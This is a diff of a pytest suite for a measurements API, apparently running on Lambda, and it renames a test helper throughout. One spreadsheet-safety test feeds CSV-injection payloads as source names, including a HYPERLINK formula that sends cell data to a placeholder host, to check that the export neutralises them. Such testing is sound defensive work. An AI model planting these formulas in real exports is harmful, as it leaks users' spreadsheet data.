@@ -40,7 +40,7 @@ LAMBDA_BYTES = 6_291_556
 """What Lambda lets an answer have, all in all."""
 
 
-def standing(number: int, source: str = "", unit: str = "", tags: Mapping[str, str] = NO_TAGS) -> Row:
+def measured(number: int, source: str = "", unit: str = "", tags: Mapping[str, str] = NO_TAGS) -> Row:
     return {
         "measured_at": NOON - timedelta(seconds=number),
         "source": source,
@@ -208,7 +208,7 @@ def refused(answer: dict[str, Any], status: int = 422) -> list[tuple[str, str]]:
 
 
 def test_measurements_with_all_that_is_known_of_them(get: Get, data: Data) -> None:
-    data.measurements = [standing(1, "boiler", "°C", {"site": "north"})]
+    data.measurements = [measured(1, "boiler", "°C", {"site": "north"})]
 
     answer = get("/measurements")
 
@@ -345,7 +345,7 @@ def test_rejections_tell_by_what_they_are_resolved(
 
 
 def test_a_page_leads_to_the_next(get: Get, data: Data) -> None:
-    data.measurements = [standing(number, source="ü") for number in range(5)]
+    data.measurements = [measured(number, source="ü") for number in range(5)]
     parameters = {"limit": "2", "source": "ü", "order": "desc"}
 
     answer = get("/measurements", parameters)
@@ -363,7 +363,7 @@ def test_a_page_leads_to_the_next(get: Get, data: Data) -> None:
 
 
 def test_the_last_page_leads_nowhere(get: Get, data: Data) -> None:
-    data.measurements = [standing(number) for number in range(2)]
+    data.measurements = [measured(number) for number in range(2)]
 
     answer = get("/measurements", {"limit": "2"})
 
@@ -398,7 +398,7 @@ HEAVY = {f"{number:02}" + "\U0001f600" * 62: "\U0001f600" * 256 for number in ra
 
 @pytest.mark.parametrize("accept", ["application/json", "text/csv", "application/x-ndjson"])
 def test_what_would_not_fit_through_lambda_is_cut_and_goes_on(get: Get, data: Data, accept: str) -> None:
-    data.measurements = [standing(number, "\U0001f600" * 200, tags=HEAVY) for number in range(1000)]
+    data.measurements = [measured(number, "\U0001f600" * 200, tags=HEAVY) for number in range(1000)]
     read, parameters = [], {"limit": "1000"}
 
     while True:
@@ -419,7 +419,7 @@ def test_what_would_not_fit_through_lambda_is_cut_and_goes_on(get: Get, data: Da
 @pytest.mark.parametrize("accept", ["application/json", "text/csv", "application/x-ndjson"])
 def test_what_is_compressed_counts_as_it_is_sent(get: Get, data: Data, accept: str) -> None:
     # GIVEN entries that don't fit as they are, and do when they are compressed
-    data.measurements = [standing(number, "\U0001f600" * 200, tags=HEAVY) for number in range(1000)]
+    data.measurements = [measured(number, "\U0001f600" * 200, tags=HEAVY) for number in range(1000)]
 
     answer = get("/measurements", {"limit": "1000"}, Accept=accept, Accept_Encoding="gzip, br")
 
@@ -432,7 +432,7 @@ def test_what_does_not_fit_even_compressed_is_cut_and_goes_on(get: Get, data: Da
     random = Random(3)  # noqa: S311 - no secret
     tags = [{f"{tag:02}": random.randbytes(128).hex() for tag in range(16)} for _ in range(50)]
     data.measurements = [
-        standing(number, random.randbytes(100).hex(), tags=tags[number % 50] | {"x": random.randbytes(9_000).hex()})
+        measured(number, random.randbytes(100).hex(), tags=tags[number % 50] | {"x": random.randbytes(9_000).hex()})
         for number in range(1000)
     ]
     parameters = {"limit": "1000"}
@@ -457,9 +457,9 @@ def unpacked(answer: dict[str, Any]) -> dict[str, Any]:
 
 @pytest.mark.parametrize("path", ["/measurements", "/kpis", "/quality", f"/ingest/{RAW_ID}"])
 def test_compressed_answers_say_the_same_under_the_same_tag(get: Get, data: Data, path: str) -> None:
-    data.measurements = [standing(number) for number in range(100)]
+    data.measurements = [measured(number) for number in range(100)]
     data.kpis, data.quality = [KPI] * 100, [QUALITY] * 100
-    data.hold_batch([event(number, standing(number)) for number in range(100)])
+    data.hold_batch([event(number, measured(number)) for number in range(100)])
     parameters = {"to": "2026-03-04T12:00Z"} if path in {"/kpis", "/quality"} else {}
 
     plain, packed = get(path, parameters), get(path, parameters, Accept_Encoding="gzip")
@@ -476,7 +476,7 @@ def test_a_problem_is_small_and_not_compressed(get: Get) -> None:
 
 
 def test_a_batch_s_events_that_would_not_fit_through_lambda_go_on_at_the_cursor(get: Get, data: Data) -> None:
-    heavy = standing(0, "\U0001f600" * 200, tags=HEAVY)
+    heavy = measured(0, "\U0001f600" * 200, tags=HEAVY)
     data.hold_batch([event(number, heavy) for number in range(400)])
     read: list[int] = []
     parameters = {"limit": "1000"}
@@ -516,7 +516,7 @@ def test_an_entry_that_is_larger_than_an_answer_is_given_all_the_same(
     get: Get, data: Data, monkeypatch: pytest.MonkeyPatch
 ) -> None:
     monkeypatch.setattr("dropzone.api.pages.MOST_BYTES", 10)
-    data.measurements = [standing(number) for number in range(3)]
+    data.measurements = [measured(number) for number in range(3)]
 
     assert len(json_body(get("/measurements"))["measurements"]) == 1
 
@@ -548,7 +548,7 @@ def test_an_entry_that_is_larger_than_an_answer_is_given_all_the_same(
     ],
 )
 def test_the_format_is_what_the_client_accepts_best(get: Get, data: Data, accept: str, form: str | None) -> None:
-    data.measurements = [standing(0)]
+    data.measurements = [measured(0)]
 
     for path in ("/measurements", "/measurements/2026-03-04T12:00Z", "/kpis", "/quality", "/sources", "/contracts"):
         answer = get(path, Accept=accept)
@@ -566,7 +566,7 @@ LISTS = ["measurements", "kpis", "quality", "sources"]
 
 @pytest.mark.parametrize("name", [*LISTS, "contracts"])
 def test_csv_and_ndjson_say_the_same_as_json(get: Get, data: Data, name: str) -> None:
-    data.measurements = [standing(1, 'a "b", c', "°C", {"k": 'v"'}), standing(2)]
+    data.measurements = [measured(1, 'a "b", c', "°C", {"k": 'v"'}), measured(2)]
     data.kpis = [{**KPI, "source": 'a "b", c'}, BARE]
     data.quality = [{**QUALITY, "source": "ü\n"}]
     data.sources = [BOILER, NEVER]
@@ -598,7 +598,7 @@ def flattened(entry: Mapping[str, Any]) -> Iterator[tuple[str, Any]]:
 @pytest.mark.parametrize("name", LISTS)
 def test_csv_for_a_spreadsheet_is_marked_as_utf_8_and_runs_nothing(get: Get, data: Data, name: str) -> None:
     sources = ['=HYPERLINK("http://example.invalid/?"&A1,"open")', "+1", "-1", "@x", "\tx", "\rx", "＝1", "ü=1", "'=1"]
-    data.measurements = [standing(-1, source, "-°C") for source in sources]
+    data.measurements = [measured(-1, source, "-°C") for source in sources]
     data.kpis = [{**KPI, "source": source, "mean": -1.0} for source in sources]
     data.quality = [{**QUALITY, "source": source} for source in sources]
     data.sources = [{**BOILER, "source": source} for source in sources]
@@ -620,7 +620,7 @@ def test_csv_for_a_spreadsheet_is_marked_as_utf_8_and_runs_nothing(get: Get, dat
 
 
 def test_plain_csv_has_no_mark_and_no_file_name(get: Get, data: Data) -> None:
-    data.measurements = [standing(1, "=1")]
+    data.measurements = [measured(1, "=1")]
     answer = get("/measurements", Accept="text/csv")
 
     assert answer["body"].startswith("measured_at,source,mean,")
@@ -645,7 +645,7 @@ def test_no_measurements_are_an_empty_list_in_every_form(get: Get) -> None:
     ],
 )
 def test_the_measurements_of_an_instant(get: Get, data: Data, path: str) -> None:
-    data.measurements = [standing(0, "a"), standing(0, "b")]
+    data.measurements = [measured(0, "a"), measured(0, "b")]
 
     body = json_body(get(f"/measurements/{path}"))
 
@@ -1050,7 +1050,7 @@ def test_bad_parameters_of_contracts(get: Get, path: str, parameters: dict[str, 
 
 @pytest.mark.parametrize("path", ["/measurements", "/kpis", "/quality", "/measurements/2026-03-04T12:00Z"])
 def test_what_the_client_has_is_not_sent_again_until_it_changes(get: Get, data: Data, path: str) -> None:
-    data.measurements, data.kpis = [standing(0)], [KPI]
+    data.measurements, data.kpis = [measured(0)], [KPI]
     data.quality = [QUALITY]
     parameters = {} if path.startswith("/measurements") else {"to": "2026-03-04T12:00Z"}
     first = get(path, parameters)
@@ -1066,7 +1066,7 @@ def test_what_the_client_has_is_not_sent_again_until_it_changes(get: Get, data: 
         assert header(again, "Cache-Control") == "private, no-cache"
     assert get(path, parameters, If_None_Match='"other"')["statusCode"] == 200
 
-    data.measurements, data.kpis = [standing(1)], [BARE]
+    data.measurements, data.kpis = [measured(1)], [BARE]
     data.quality = [{**QUALITY, "source": "b"}]
     assert get(path, parameters, If_None_Match=tag)["statusCode"] == 200
 
@@ -1075,7 +1075,7 @@ def test_another_origin_reads_the_headers_and_caches_vary_by_form(
     get: Get, data: Data, monkeypatch: pytest.MonkeyPatch
 ) -> None:
     monkeypatch.setenv("CORS_ORIGIN", "https://app.example.com")
-    data.measurements = [standing(0)]
+    data.measurements = [measured(0)]
 
     answer = get("/measurements")
 
@@ -1087,8 +1087,8 @@ def test_another_origin_reads_the_headers_and_caches_vary_by_form(
 
 @pytest.mark.parametrize("path", ["/measurements", "/kpis", f"/ingest/{RAW_ID}", f"/ingest/{RAW_ID}/raw", "/nowhere"])
 def test_head_answers_as_get_does_without_the_body(get: Get, data: Data, path: str) -> None:
-    data.measurements, data.kpis = [standing(0)], [KPI]
-    data.hold_batch([event(0, standing(0))])
+    data.measurements, data.kpis = [measured(0)], [KPI]
+    data.hold_batch([event(0, measured(0))])
     data.raw[RAW_ID] = RawObject(RAW_ID, b"{}", "application/json", "", "")
     parameters = {"to": "2026-03-04T12:00Z"} if path == "/kpis" else {}
 
